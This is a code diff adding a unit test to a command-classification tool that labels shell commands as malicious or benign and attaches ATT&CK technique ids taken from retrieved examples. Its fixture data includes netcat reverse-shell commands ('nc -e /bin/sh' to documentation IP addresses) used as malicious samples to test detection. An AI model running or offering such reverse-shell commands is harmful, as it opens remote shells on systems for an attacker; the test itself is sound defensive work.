@@ -470,6 +470,60 @@ static void test_label_scoring_modes(void **st) {
     smol_close(&x);
 }
 
+/* "techniques": "retrieval": the model writes the summary only and a
+ * suspicious or malicious verdict takes the ATT&CK ids of its nearest
+ * non-benign examples; a benign one gets none. */
+static void test_techniques_from_retrieval(void **st) {
+    (void)st;
+    smol x;
+    if (!smol_open(&x)) skip();
+    const char *dir = nj_test_tmpdir();
+    assert_non_null(dir);
+    /* the vote alone decides (knn_weight 1), so the labels are known */
+    write_prompt(dir, "{\"version\": \"t\", \"system\": \"system.txt\", \"examples\": 0, "
+                      "\"knn_k\": 5, \"knn_weight\": 1.0, \"techniques\": \"retrieval\"}");
+    char kb[512];
+    snprintf(kb, sizeof kb, "%s/kb.jsonl", dir);
+    FILE *f = fopen(kb, "w");
+    assert_non_null(f);
+    fputs("{\"cmd\": \"nc -e /bin/sh 203.0.113.4 9001\", \"label\": \"malicious\", \"technique\": \"T1059.004\", \"why\": \"shell\"}\n"
+          "{\"cmd\": \"nc -e /bin/bash 203.0.113.9 4444\", \"label\": \"malicious\", \"technique\": \"T1562.001\", \"why\": \"old id\"}\n"
+          "{\"cmd\": \"nc -zv 203.0.113.4 22\", \"label\": \"benign\", \"technique\": \"T1046\", \"why\": \"benign with an id\"}\n"
+          "{\"cmd\": \"ls -la /srv/www\", \"label\": \"benign\", \"technique\": null, \"why\": \"listing\"}\n", f);
+    fclose(f);
+    analyst_opts o = {.data_dir = ".", .prompt_dir = dir, .kb_path = kb, .model_name = "SmolLM2-135M-Instruct.Q4_1.gguf",
+                      .no_rules = true, .full = true, .no_cache = true};
+    int err = 0;
+    analyst *a = analyst_new(&o, &err);
+    if (!a) fail_msg("analyst_new: %s", nj_last_error());
+    json_t *ev = cmd_event("nc -e /bin/sh 198.51.100.7 9001", 1), *v = NULL;
+    assert_int_equal(analyst_judge(a, x.m, x.s, ev, &v), 0);
+    assert_string_equal(json_string_value(json_object_get(v, "verdict")), "malicious");
+    /* the nearest first, the renumbered id under its v19 number; the
+     * benign neighbour's id is not taken */
+    json_t *t = json_object_get(v, "techniques");
+    if (json_array_size(t) != 2 || strcmp(json_string_value(json_array_get(t, 0)), "T1059.004") ||
+        strcmp(json_string_value(json_array_get(t, 1)), "T1685")) {
+        char *d = json_dumps(t, 0);
+        fail_msg("techniques %s, want [\"T1059.004\", \"T1685\"]", d);
+    }
+    const char *sum = json_string_value(json_object_get(v, "summary"));
+    assert_true(sum && *sum && !strstr(sum, "Judged"));   /* generated, not the label path's line */
+    json_decref(v);
+    json_decref(ev);
+    ev = cmd_event("ls -la /srv/www/html", 2);
+    assert_int_equal(analyst_judge(a, x.m, x.s, ev, &v), 0);
+    assert_string_equal(json_string_value(json_object_get(v, "verdict")), "benign");
+    assert_int_equal(json_array_size(json_object_get(v, "techniques")), 0);
+    json_decref(v);
+    json_decref(ev);
+    analyst_free(a);
+    write_prompt(dir, "{\"version\": \"t\", \"system\": \"system.txt\", \"techniques\": \"both\"}");
+    assert_null(analyst_new(&o, &err));
+    if (!strstr(nj_last_error(), "techniques")) fail_msg("error '%s' lacks techniques", nj_last_error());
+    smol_close(&x);
+}
+
 /* A summary the token budget cuts off ends at its last whole word. */
 static void test_word_cut(void **st) {
     (void)st;
@@ -503,6 +557,7 @@ int main(void) {
         cmocka_unit_test(test_combiner_per_model),
         cmocka_unit_test(test_label_scoring_modes),
         cmocka_unit_test(test_word_cut),
+        cmocka_unit_test(test_techniques_from_retrieval),
     };
     return cmocka_run_group_tests_name("analyst", tests, NULL, NULL);
 }
